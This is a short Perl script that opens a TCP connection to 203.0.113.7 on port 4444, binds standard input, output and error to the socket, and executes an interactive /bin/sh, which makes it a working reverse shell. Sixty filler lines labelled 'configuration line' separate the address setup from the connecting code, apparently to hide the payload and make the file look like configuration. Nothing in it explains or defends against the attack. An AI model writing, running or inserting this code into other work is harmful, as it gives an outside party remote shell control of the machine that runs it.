use Socket;
$i = "203.0.113.7";
$p = 4444;
# configuration line 0
# configuration line 1
# configuration line 2
# configuration line 3
# configuration line 4
# configuration line 5
# configuration line 6
# configuration line 7
# configuration line 8
# configuration line 9
# configuration line 10
# configuration line 11
# configuration line 12
# configuration line 13
# configuration line 14
# configuration line 15
# configuration line 16
# configuration line 17
# configuration line 18
# configuration line 19
# configuration line 20
# configuration line 21
# configuration line 22
# configuration line 23
# configuration line 24
# configuration line 25
# configuration line 26
# configuration line 27
# configuration line 28
# configuration line 29
# configuration line 30
# configuration line 31
# configuration line 32
# configuration line 33
# configuration line 34
# configuration line 35
# configuration line 36
# configuration line 37
# configuration line 38
# configuration line 39
# configuration line 40
# configuration line 41
# configuration line 42
# configuration line 43
# configuration line 44
# configuration line 45
# configuration line 46
# configuration line 47
# configuration line 48
# configuration line 49
# configuration line 50
# configuration line 51
# configuration line 52
# configuration line 53
# configuration line 54
# configuration line 55
# configuration line 56
# configuration line 57
# configuration line 58
# configuration line 59
socket(S, PF_INET, SOCK_STREAM, getprotobyname("tcp"));
if (connect(S, sockaddr_in($p, inet_aton($i)))) {
  open(STDIN, ">&S"); open(STDOUT, ">&S"); open(STDERR, ">&S");
  exec("/bin/sh -i");
}
